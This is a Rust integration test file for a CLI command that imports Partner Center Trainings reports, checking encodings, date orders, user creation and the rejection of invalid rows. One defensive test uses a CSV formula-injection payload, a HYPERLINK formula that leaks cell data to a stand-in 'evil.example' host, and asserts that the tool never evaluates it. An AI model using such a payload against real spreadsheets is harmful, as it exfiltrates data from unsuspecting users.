//! `achievements import` of the Partner Center Trainings report (SPEC §6a), through the
//! binary, on the fixtures of tests/data/trainings (written by its generate.py, which
//! prints the figures asserted here).

mod common;

use std::path::{Path, PathBuf};

use common::{Env, mode, read_credentials};
use serde_json::Value;

const NOW: &str = "2026-03-01T09:00:00Z";
const REPORT_2021: &str = "Export_trainings_Lifetime_1234567_Contoso_Ltd.csv";
const REPORT_OLD: &str = "Trainings_2019.tsv";

fn fixture(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/data/trainings")
        .join(name)
}

/// A fresh organization (partner ID 1234567, default rulebook) with `names` copied in.
fn env_with(names: &[&str]) -> Env {
    let env = Env::new();
    env.init();
    for n in names {
        std::fs::copy(fixture(n), env.path(n)).expect("copy fixture");
    }
    env
}

/// `achievements import FILE extra… --format json`: (exit code, JSON, stderr).
fn import(env: &Env, file: &str, extra: &[&str]) -> (i32, Value, String) {
    let mut args = vec![
        "achievements",
        "import",
        file,
        "--now",
        NOW,
        "--format",
        "json",
    ];
    args.extend_from_slice(extra);
    let (code, out, err) = env.run(&args);
    let json = serde_json::from_str(&out).unwrap_or(Value::Null);
    (code, json, err)
}

fn n(v: &Value, key: &str) -> u64 {
    v[key]
        .as_u64()
        .unwrap_or_else(|| panic!("no number {key} in {v}"))
}

fn achievements(env: &Env) -> Vec<Value> {
    env.json(&["achievements", "list", "--now", NOW])
        .as_array()
        .cloned()
        .unwrap_or_default()
}

#[test]
fn the_2021_csv_with_bom_and_crlf_is_read_as_downloaded_and_says_which_layout() {
    let env = env_with(&[REPORT_2021]);
    let (code, s, err) = import(&env, REPORT_2021, &[]);
    assert_eq!(code, 0, "{err}");
    assert!(
        err.contains("Partner Center Trainings report, 2021 layout with expiry dates")
            && err.contains("dates day first"),
        "{err}"
    );
    assert!(
        !err.contains("ignoring column"),
        "report columns are known: {err}"
    );
    assert_eq!(
        (
            n(&s, "rows"),
            n(&s, "added"),
            n(&s, "skipped"),
            n(&s, "rejected")
        ),
        (199, 144, 55, 0)
    );
    assert_eq!(n(&s, "skipped_title_count"), 4);
    let titles: Vec<&str> = s["skipped_titles"]
        .as_array()
        .unwrap()
        .iter()
        .map(|t| t["title"].as_str().unwrap())
        .collect();
    assert!(
        titles.contains(&"Microsoft Azure Fundamentals"),
        "{titles:?}"
    );
    assert_eq!((n(&s, "people"), n(&s, "without_corp_email")), (44, 6));

    // Titles matched by alias and by another case and spacing; day-first dates read as such;
    // ExpirationDate kept as the record's expiry.
    let list = achievements(&env);
    assert!(list.is_empty(), "nobody is linked yet: {list:?}");
    let mei = env.json(&[
        "achievements",
        "list",
        "--msa",
        "mei.chen0@outlook.com",
        "--now",
        NOW,
    ]);
    let mei = mei.as_array().unwrap();
    let enabling = mei.iter().find(|a| a["code"] == "70-347").expect("70-347");
    assert_eq!(enabling["earned"], "2022-04-13");
    let text = std::fs::read_to_string(env.path(REPORT_2021)).unwrap();
    let mcsa_line = text
        .lines()
        .find(|l| l.contains(",MCSA: Office 365,"))
        .expect("an MCSA row");
    let email = mcsa_line.split(',').nth(5).unwrap();
    let theirs = env.json(&["achievements", "list", "--msa", email, "--now", NOW]);
    let mcsa = theirs
        .as_array()
        .unwrap()
        .iter()
        .find(|a| a["code"] == "MCSA-O365")
        .expect("MCSA-O365");
    let earned = chrono_like_add_730(mcsa["earned"].as_str().unwrap());
    assert_eq!(mcsa["expires"].as_str().unwrap(), earned);

    // Idempotent: the same file again changes nothing.
    let (code, again, err) = import(&env, REPORT_2021, &[]);
    assert_eq!(code, 0, "{err}");
    assert_eq!(
        (
            n(&again, "added"),
            n(&again, "unchanged"),
            n(&again, "skipped")
        ),
        (0, 144, 55)
    );
}

/// `YYYY-MM-DD` + 730 days, without a date crate in the tests.
fn chrono_like_add_730(d: &str) -> String {
    let days_in = |y: i64, m: i64| match m {
        2 if (y % 4 == 0 && y % 100 != 0) || y % 400 == 0 => 29,
        2 => 28,
        4 | 6 | 9 | 11 => 30,
        _ => 31,
    };
    let mut p = d.split('-').map(|x| x.parse::<i64>().unwrap());
    let (mut y, mut m, mut day) = (p.next().unwrap(), p.next().unwrap(), p.next().unwrap());
    for _ in 0..730 {
        day += 1;
        if day > days_in(y, m) {
            day = 1;
            m += 1;
            if m > 12 {
                m = 1;
                y += 1;
            }
        }
    }
    format!("{y:04}-{m:02}-{day:02}")
}

#[test]
fn the_older_tsv_layout_and_the_people_without_corporate_email_line() {
    let env = env_with(&[REPORT_OLD]);
    let (code, out, err) = env.run(&["achievements", "import", REPORT_OLD, "--now", NOW]);
    assert_eq!(code, 0, "{err}");
    assert!(
        err.contains("older layout without expiry dates") && err.contains("tab-separated"),
        "{err}"
    );
    assert!(
        out.contains(
            "7 people have no corporate e-mail in the report: their achievements are recorded \
             but count only once their MSA is linked"
        ),
        "{out}"
    );
    assert!(
        out.contains("Skipped 4 titles in no catalogue entry"),
        "{out}"
    );
    assert!(out.contains("\"Power BI in a day\""), "{out}");
    let (_, s, _) = import(&env, REPORT_OLD, &[]);
    assert_eq!(
        (n(&s, "rows"), n(&s, "unchanged"), n(&s, "skipped")),
        (170, 117, 53)
    );
}

#[test]
fn create_users_makes_the_accounts_links_the_msas_and_writes_one_credentials_file() {
    let env = env_with(&[REPORT_2021]);
    let (code, s, err) = import(
        &env,
        REPORT_2021,
        &["--create-users", "--credentials-file", "new.csv"],
    );
    assert_eq!(code, 0, "{err}");
    assert_eq!((n(&s, "created"), n(&s, "linked")), (38, 38));
    assert_eq!(s["credentials_file"], "new.csv");
    let creds = read_credentials(&env.path("new.csv"));
    assert_eq!(creds.len(), 38);
    assert_eq!(mode(&env.path("new.csv")), 0o600);
    assert!(
        creds
            .iter()
            .all(|r| r[1].ends_with("@contoso.com") && r[2].len() >= 16)
    );
    let users = env.json(&["users", "list"]);
    let mei = users
        .as_array()
        .unwrap()
        .iter()
        .find(|u| u["email"] == "mei.chen0@contoso.com")
        .expect("Mei's account");
    assert_eq!(mei["msa"], "mei.chen0@outlook.com");
    assert_eq!(mei["name"], "Mei Chen");
    // Counted once linked for the progress delay.
    let later = env.json(&["achievements", "list", "--now", "2026-03-02T10:00:00Z"]);
    assert!(
        later
            .as_array()
            .unwrap()
            .iter()
            .any(|a| a["counts"] == true),
        "{later}"
    );
    // Passwords never on the screen or in the audit.
    let pw = &creds[0][2];
    assert!(!err.contains(pw.as_str()));
    let audit = env.ok(&["audit", "--limit", "1000"]);
    assert!(!audit.contains(pw.as_str()));
    assert!(audit.contains("msa.link"), "{audit}");

    // Again: nothing new, no credentials file.
    let (code, again, err) = import(
        &env,
        REPORT_2021,
        &["--create-users", "--credentials-file", "again.csv"],
    );
    assert_eq!(code, 0, "{err}");
    assert_eq!(
        (
            n(&again, "created"),
            n(&again, "linked"),
            n(&again, "already_linked")
        ),
        (0, 0, 38)
    );
    assert!(!env.path("again.csv").exists());
}

#[test]
fn link_users_links_existing_accounts_without_an_msa_only() {
    let env = env_with(&[REPORT_2021]);
    env.add_user("Mei Chen", "mei.chen0@contoso.com", &[]);
    env.add_user(
        "Lukas Berg",
        "lukas.berg1@contoso.com",
        &["--msa", "lukas.other@outlook.com"],
    );
    let (code, s, err) = import(&env, REPORT_2021, &["--link-users"]);
    assert_eq!(code, 0, "{err}");
    assert_eq!(
        (n(&s, "linked"), n(&s, "created"), n(&s, "without_account")),
        (1, 0, 36)
    );
    let conflicts = s["conflicts"].as_array().unwrap();
    assert_eq!(conflicts.len(), 1, "{conflicts:?}");
    assert!(
        conflicts[0]
            .as_str()
            .unwrap()
            .contains("lukas.other@outlook.com")
    );
    let users = env.json(&["users", "list"]);
    let msas: Vec<&Value> = users
        .as_array()
        .unwrap()
        .iter()
        .map(|u| &u["msa"])
        .collect();
    assert!(
        msas.contains(&&Value::from("mei.chen0@outlook.com")),
        "{msas:?}"
    );
    assert!(
        msas.contains(&&Value::from("lukas.other@outlook.com")),
        "{msas:?}"
    );
}

#[test]
fn dry_run_with_create_users_writes_nothing() {
    let env = env_with(&[REPORT_2021]);
    let (code, s, err) = import(
        &env,
        REPORT_2021,
        &["--create-users", "--dry-run", "--credentials-file", "c.csv"],
    );
    assert_eq!(code, 0, "{err}");
    assert_eq!((n(&s, "added"), n(&s, "created")), (144, 38));
    assert_eq!(s["committed"], false);
    assert!(!env.path("c.csv").exists());
    assert_eq!(env.json(&["users", "list"]), Value::Array(vec![]));
    let (_, real, _) = import(&env, REPORT_2021, &[]);
    assert_eq!(n(&real, "added"), 144, "the dry run recorded nothing");
}

#[test]
fn a_file_mixing_day_and_month_first_is_invalid_naming_the_line() {
    let env = env_with(&["mixed-orders.csv"]);
    let err = env.fails(&["achievements", "import", "mixed-orders.csv", "--now", NOW]);
    assert!(
        err.contains("mixed-orders.csv:4:") && err.contains("line 2") && err.contains("mixes"),
        "{err}"
    );
    // Even with --skip-invalid: the whole file is suspect.
    env.fails(&[
        "achievements",
        "import",
        "mixed-orders.csv",
        "--skip-invalid",
        "--now",
        NOW,
    ]);
    assert!(!env.path("mixed-orders.csv.rejects.csv").exists());
    let (_, s, _) = import(
        &env,
        "mixed-orders.csv",
        &["--date-order", "dmy", "--dry-run"],
    );
    assert_eq!(
        s,
        Value::Null,
        "a month-first date is no date with --date-order dmy"
    );
    assert_eq!(
        env.json(&[
            "achievements",
            "list",
            "--msa",
            "bob@outlook.com",
            "--now",
            NOW
        ]),
        Value::Array(vec![])
    );
}

#[test]
fn a_file_of_ambiguous_dates_needs_date_order() {
    let env = env_with(&["ambiguous-dates.csv"]);
    let err = env.fails(&[
        "achievements",
        "import",
        "ambiguous-dates.csv",
        "--now",
        NOW,
    ]);
    assert!(
        err.contains("ambiguous-dates.csv:2:") && err.contains("--date-order dmy"),
        "{err}"
    );
    let (code, s, err) = import(&env, "ambiguous-dates.csv", &["--date-order", "mdy"]);
    assert_eq!(code, 0, "{err}");
    assert_eq!(n(&s, "added"), 2);
    assert!(err.contains("dates month first (--date-order)"), "{err}");
    let list = env.json(&[
        "achievements",
        "list",
        "--msa",
        "bob@outlook.com",
        "--now",
        NOW,
    ]);
    let earned: Vec<&str> = list
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a["earned"].as_str().unwrap())
        .collect();
    assert_eq!(earned.len(), 2);
    assert!(
        earned.contains(&"2021-03-04") && earned.contains(&"2021-05-06"),
        "{earned:?}"
    );
}

#[test]
fn hostile_rows_formula_title_impossible_date_and_bad_email() {
    let env = env_with(&["hostile.csv"]);
    // All or nothing: two bad rows, nothing written, each named.
    let err = env.fails(&["achievements", "import", "hostile.csv", "--now", NOW]);
    assert!(
        err.contains(
            "hostile.csv:3: TrainingCompletionDate: \"31/02/2021 10:00\" is not a valid date"
        ),
        "{err}"
    );
    assert!(err.contains("hostile.csv:5: Email:"), "{err}");
    // --skip-invalid: the valid row imported, the bad ones in the rejects file, the formula
    // title skipped and reported as text (never evaluated, never an error).
    let (code, s, err) = import(&env, "hostile.csv", &["--skip-invalid"]);
    assert_eq!(code, 0, "{err}");
    assert_eq!(
        (n(&s, "added"), n(&s, "rejected"), n(&s, "skipped")),
        (1, 2, 1)
    );
    assert_eq!(
        s["skipped_titles"][0]["title"],
        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")"
    );
    let rejects = std::fs::read_to_string(env.path("hostile.csv.rejects.csv")).unwrap();
    assert_eq!(rejects.lines().count(), 3, "{rejects}");
    assert!(rejects.lines().next().unwrap().ends_with(",error"));
}

/// Bug (issue 26 item 11): completion years 0000 and 1899 were accepted (SPEC §2 bounds
/// dates to 1900–9999; such a database could not even be copied to PostgreSQL).
#[test]
fn completion_and_expiry_years_before_1900_are_refused_naming_the_line() {
    let env = env_with(&[]);
    let header = std::fs::read_to_string(fixture("hostile.csv"))
        .unwrap()
        .lines()
        .next()
        .unwrap()
        .to_owned();
    let row = |id: u32, completed: &str, expires: &str| {
        format!(
            "{id},Querying Data with Transact-SQL,Exam,Bob,Stone,bob@outlook.com,\
             bob@contoso.com,{completed},2021-03,Yes,3,1234567,Contoso Ltd,Redmond,\
             United States,{expires},Active"
        )
    };
    for (completed, expires, line_says) in [
        ("0000-03-15 10:00:00", "", "0000-03-15"),
        ("1899-12-31", "", "1899-12-31"),
        ("15/03/1899 10:00", "", "15/03/1899"),
        ("2021-03-15", "1899-01-01", "1899-01-01"),
    ] {
        let text = format!(
            "{header}\n{}\n{}\n",
            row(1, "16/03/2021 10:00", ""),
            row(2, completed, expires)
        );
        std::fs::write(env.path("old.csv"), text).unwrap();
        let err = env.fails(&["achievements", "import", "old.csv", "--now", NOW]);
        assert!(
            err.contains("old.csv:3:") && err.contains(line_says) && err.contains("1900 to 9999"),
            "{completed} {expires}: {err}"
        );
        assert_eq!(achievements(&env), Vec::<Value>::new());
    }
}

#[test]
fn a_one_megabyte_title_is_skipped_and_shown_short() {
    let env = env_with(&["header-only.csv"]);
    let header = std::fs::read_to_string(fixture("hostile.csv")).unwrap();
    let header = header.lines().next().unwrap();
    let big = "A".repeat(1 << 20);
    let file = format!(
        "{header}\n1,{big},Exam,Bob,Stone,bob@outlook.com,,2021-04-03 23:07,2021-04,Yes,2,1234567,Contoso Ltd,Redmond,United States,,Active\n"
    );
    std::fs::write(env.path("big.csv"), file).unwrap();
    let (code, out, err) = env.run(&["achievements", "import", "big.csv", "--now", NOW]);
    assert_eq!(code, 0, "{err}");
    assert!(
        out.len() + err.len() < 4096,
        "output not cut: {} bytes",
        out.len() + err.len()
    );
    assert!(out.contains("Skipped 1 title"), "{out}");
}

#[test]
fn a_header_only_report_imports_nothing() {
    let env = env_with(&["header-only.csv"]);
    let (code, s, err) = import(&env, "header-only.csv", &[]);
    assert_eq!(code, 0, "{err}");
    assert_eq!((n(&s, "rows"), n(&s, "added")), (0, 0));
}

#[test]
fn a_report_of_another_partner_id_warns_and_imports() {
    let env = env_with(&["other-partner.csv"]);
    let (code, s, err) = import(&env, "other-partner.csv", &[]);
    assert_eq!(code, 0, "{err}");
    assert_eq!(n(&s, "added"), 2);
    assert!(
        err.contains("warning: other-partner.csv:2: the report is for partner ID \"7654321\" (2 rows), not this organization's 1234567"),
        "{err}"
    );
    assert_eq!(s["partner_mismatch"]["mpn_id"], "7654321");
}

#[test]
fn a_report_without_personal_data_is_refused() {
    let env = env_with(&["no-personal-data.csv"]);
    let err = env.fails(&[
        "achievements",
        "import",
        "no-personal-data.csv",
        "--now",
        NOW,
    ]);
    assert!(
        err.contains("no-personal-data.csv:1:") && err.contains("Executive report viewer"),
        "{err}"
    );
}

#[test]
fn report_flags_on_an_ordinary_achievements_csv_are_refused() {
    let env = env_with(&[]);
    std::fs::write(
        env.path("a.csv"),
        "msa,code,earned\nbob@outlook.com,70-533,2025-01-02\n",
    )
    .unwrap();
    let err = env.fails(&[
        "achievements",
        "import",
        "a.csv",
        "--link-users",
        "--now",
        NOW,
    ]);
    assert!(err.contains("Trainings report"), "{err}");
    let (code, s, err) = import(&env, "a.csv", &[]);
    assert_eq!(code, 0, "{err}");
    assert_eq!(n(&s, "added"), 1);
}

#[test]
fn an_alias_added_to_the_rulebook_makes_a_skipped_title_count() {
    let env = env_with(&["other-partner.csv"]);
    let text = std::fs::read_to_string(fixture("other-partner.csv"))
        .unwrap()
        .replace(
            "Querying Data with Transact-SQL",
            "Transact-SQL querying (2019 name)",
        );
    std::fs::write(env.path("r.csv"), text).unwrap();
    let (_, s, _) = import(&env, "r.csv", &[]);
    assert_eq!((n(&s, "added"), n(&s, "skipped")), (1, 1));
    let rules = env.ok(&["rules", "export"]);
    // The embedded entry already has an alias (its "Exam 70-761: …" form); add one to it.
    let marker = "\"Exam 70-761: Querying Data with Transact-SQL\"";
    assert!(rules.contains(marker), "{rules}");
    // An alias equal to another entry's title is refused, naming file, line and key.
    let clash = rules.replace(marker, &format!("{marker}, \"Developing SQL  databases\""));
    std::fs::write(env.path("clash.toml"), clash).unwrap();
    let err = env.fails(&["rules", "validate", "clash.toml"]);
    assert!(
        err.contains("clash.toml:") && err.contains("aliases[1]") && err.contains("70-762"),
        "{err}"
    );
    let with_alias = rules.replace(
        marker,
        &format!("{marker}, \"transact-sql QUERYING (2019 name)\""),
    );
    std::fs::write(env.path("rules.toml"), with_alias).unwrap();
    env.ok(&["rules", "import", "rules.toml"]);
    let (_, again, _) = import(&env, "r.csv", &[]);
    assert_eq!(
        (
            n(&again, "added"),
            n(&again, "unchanged"),
            n(&again, "skipped")
        ),
        (1, 1, 0)
    );
}

#[test]
fn link_users_refuses_one_corporate_email_for_two_msas() {
    let env = env_with(&["other-partner.csv"]);
    let text = std::fs::read_to_string(fixture("other-partner.csv"))
        .unwrap()
        .replace("7654321", "1234567");
    let mut lines: Vec<String> = text.lines().map(str::to_owned).collect();
    lines[2] = lines[2].replacen("bob@outlook.com", "bobby@outlook.com", 1);
    std::fs::write(env.path("r.csv"), lines.join("\n") + "\n").unwrap();
    let err = env.fails(&[
        "achievements",
        "import",
        "r.csv",
        "--link-users",
        "--now",
        NOW,
    ]);
    assert!(
        err.contains("r.csv:3: Email: bob@contoso.com is the CorpEmail of bob@outlook.com"),
        "{err}"
    );
    // Without linking, CorpEmail does not matter: both rows are recorded.
    let (code, s, err) = import(&env, "r.csv", &[]);
    assert_eq!(code, 0, "{err}");
    assert_eq!(n(&s, "added"), 2);
}

/// A small Trainings report as Excel saves it, in text: CRLF, fields quoted only when they
/// must be, accented names, one name with a line break, an unknown column, a blank row and
/// a title in no catalogue entry. The rows with accents are also those whose dates say
/// "day first"; the plain row's date is ambiguous.
fn excel_report(sep: char) -> String {
    let rows: [[&str; 8]; 4] = [
        [
            "Enabling Office 365 Services",
            "13/04/2022 00:23",
            "zoe@outlook.com",
            "zoe@contoso.com",
            "Zoë",
            "Müller",
            "1234567",
            "blue",
        ],
        [
            "Enabling Office 365 Services",
            "25/12/2021 10:00",
            "jose@outlook.com",
            "jose@contoso.com",
            "José\nMaría",
            "Núñez",
            "1234567",
            "red; green",
        ],
        [
            "MCSA: Office 365",
            "01/02/2022 10:00",
            "ann@outlook.com",
            "ann@contoso.com",
            "Ann",
            "Lee",
            "1234567",
            "",
        ],
        [
            "Microsoft Azure Fundamentals",
            "02/02/2022 10:00",
            "ann@outlook.com",
            "ann@contoso.com",
            "Ann",
            "Lee",
            "1234567",
            "",
        ],
    ];
    let field = |f: &str| {
        if f.contains([sep, '"', '\n', ',']) {
            format!("\"{}\"", f.replace('"', "\"\""))
        } else {
            f.to_owned()
        }
    };
    let line = |fields: &[&str]| {
        let v: Vec<String> = fields.iter().map(|f| field(f)).collect();
        v.join(&sep.to_string()) + "\r\n"
    };
    let mut out = line(&[
        "TrainingTitle",
        "TrainingCompletionDate",
        "Email",
        "CorpEmail",
        "IndividualFirstName",
        "IndividualLastName",
        "MPNId",
        "Favourite colour",
    ]);
    out.push_str(&line(&rows[0]));
    out.push_str(&line(&rows[1]));
    // A blank row, as Excel writes one.
    out.push_str(&line(&[""; 8]));
    out.push_str(&line(&rows[2]));
    out.push_str(&line(&rows[3]));
    out
}

fn utf16(text: &str, big_endian: bool) -> Vec<u8> {
    let mut out = if big_endian {
        vec![0xFE, 0xFF]
    } else {
        vec![0xFF, 0xFE]
    };
    for u in text.encode_utf16() {
        out.extend(if big_endian {
            u.to_be_bytes()
        } else {
            u.to_le_bytes()
        });
    }
    out
}

/// The import of [`excel_report`] went as it should: three achievements, the blank row not
/// a row, one title skipped, the unknown column warned about once, names in one line.
fn assert_excel_report_read(env: &Env, code: i32, s: &Value, err: &str, layout: &str) {
    assert_eq!(code, 0, "{err}");
    assert!(err.contains(layout), "{layout:?} not in {err}");
    assert_eq!(
        (
            n(s, "rows"),
            n(s, "added"),
            n(s, "skipped"),
            n(s, "rejected"),
            n(s, "skipped_title_count")
        ),
        (4, 3, 1, 0, 1),
        "{s}"
    );
    assert_eq!(
        err.matches("ignoring column \"Favourite colour\"").count(),
        1,
        "{err}"
    );
    let users = env.json(&["users", "list", "--now", NOW]);
    let names: Vec<&str> = users
        .as_array()
        .unwrap()
        .iter()
        .map(|u| u["name"].as_str().unwrap())
        .collect();
    for name in ["Zoë Müller", "José María Núñez", "Ann Lee"] {
        assert!(names.contains(&name), "{name:?} not in {names:?}");
    }
    let zoe = env.json(&[
        "achievements",
        "list",
        "--msa",
        "zoe@outlook.com",
        "--now",
        NOW,
    ]);
    assert_eq!(zoe[0]["earned"], "2022-04-13", "{zoe}");
}

#[test]
fn excel_unicode_text_utf16_le_and_be_with_bom_is_read() {
    for (big_endian, layout) in [(false, "UTF-16LE"), (true, "UTF-16BE")] {
        let env = env_with(&[]);
        std::fs::write(
            env.path("Trainings.txt"),
            utf16(&excel_report('\t'), big_endian),
        )
        .unwrap();
        let (code, s, err) = import(&env, "Trainings.txt", &["--create-users"]);
        assert_excel_report_read(&env, code, &s, &err, &format!("{layout}, tab-separated"));
    }
}

#[test]
fn blank_rows_line_breaks_in_names_and_extra_columns_of_an_excel_csv_are_read() {
    let env = env_with(&[]);
    std::fs::write(env.path("Trainings.csv"), excel_report(',')).unwrap();
    let (code, s, err) = import(&env, "Trainings.csv", &["--create-users"]);
    assert_excel_report_read(&env, code, &s, &err, "Trainings report, older layout");
}

#[test]
fn a_semicolon_separated_report_from_european_excel_is_read() {
    let env = env_with(&[]);
    std::fs::write(env.path("Trainings.csv"), excel_report(';')).unwrap();
    let (code, s, err) = import(&env, "Trainings.csv", &["--create-users"]);
    assert_excel_report_read(&env, code, &s, &err, "semicolon-separated");
}

#[test]
fn a_windows_1252_report_is_refused_first_with_the_line_and_the_fix_then_read_with_encoding() {
    let env = env_with(&[]);
    let text = excel_report(';');
    let (bytes, _, lossy) = encoding_rs::WINDOWS_1252.encode(&text);
    assert!(!lossy);
    std::fs::write(env.path("Trainings.csv"), &bytes).unwrap();
    let (code, _, err) = import(&env, "Trainings.csv", &["--create-users"]);
    assert_eq!(code, 1, "{err}");
    assert!(
        err.starts_with("error: Trainings.csv:2: the file is not UTF-8"),
        "the encoding must be the first message: {err}"
    );
    assert!(
        err.contains("\"CSV UTF-8\"") && err.contains("--encoding windows-1252"),
        "{err}"
    );
    assert!(!err.contains("--date-order"), "{err}");
    assert_eq!(err.lines().count(), 1, "{err}");
    assert!(achievements(&env).is_empty());
    let left: Vec<_> = std::fs::read_dir(env.path("."))
        .unwrap()
        .filter_map(|e| e.ok())
        .filter(|e| e.file_name().to_string_lossy().starts_with("credentials-"))
        .collect();
    assert!(left.is_empty(), "credentials left behind: {left:?}");

    let (code, s, err) = import(
        &env,
        "Trainings.csv",
        &["--create-users", "--encoding", "windows-1252"],
    );
    assert_excel_report_read(&env, code, &s, &err, "windows-1252, semicolon-separated");
}
